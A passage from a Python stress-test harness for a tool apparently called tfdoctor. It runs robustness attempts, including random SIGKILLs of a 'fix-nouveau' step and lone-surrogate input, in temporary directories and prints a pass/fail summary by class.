        whole = bool(res.stdout.strip()) and end in res.stdout.strip().splitlines()[-1].lower()
        ok &= res.rc in (0, 1) and "Traceback" not in res.stderr and whole
        notes.append(str(res.rc))
    return ok, "rc " + "/".join(notes)


attempt("7 validation", "lone surrogates in a snapshot (console, Markdown, -v)")(_surrogates)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--quick", action="store_true", help="20 random kills of fix-nouveau instead of 100")
    ap.add_argument("-v", "--verbose", action="store_true", help="print every attempt")
    args = ap.parse_args()
    kills = 20 if args.quick else 100
    attempt("5 fix-nouveau", f"{kills} random SIGKILLs of fix-nouveau and --undo")(
        lambda tmp: _kill_storm(tmp, kills))
    load_before = os.getloadavg()
    t0 = time.monotonic()
    for run in ATTEMPTS:
        with tempfile.TemporaryDirectory(prefix="tfdoctor-hostile-") as tmp:
            run(Path(tmp))
        name, ok, note = RESULTS[run.cls][-1]
        if args.verbose or not ok:
            print(f"{'ok  ' if ok else 'FAIL'} [{run.cls}] {name}: {note}", flush=True)
    tried = sum(len(v) for v in RESULTS.values())
    survived = sum(ok for v in RESULTS.values() for _, ok, _ in v)
    print()
    for cls in sorted(RESULTS):
        rows = RESULTS[cls]
        print(f"{cls:16} {sum(ok for _, ok, _ in rows)}/{len(rows)}")
    print(f"{'tried/survived':16} {tried}/{survived}")
    print(f"{time.monotonic() - t0:.0f} s; load average before {load_before[0]:.2f}, after {os.getloadavg()[0]:.2f} "
          f"({os.cpu_count()} CPUs)")
    return 0 if tried == survived else 1


if __name__ == "__main__":
    raise SystemExit(main())
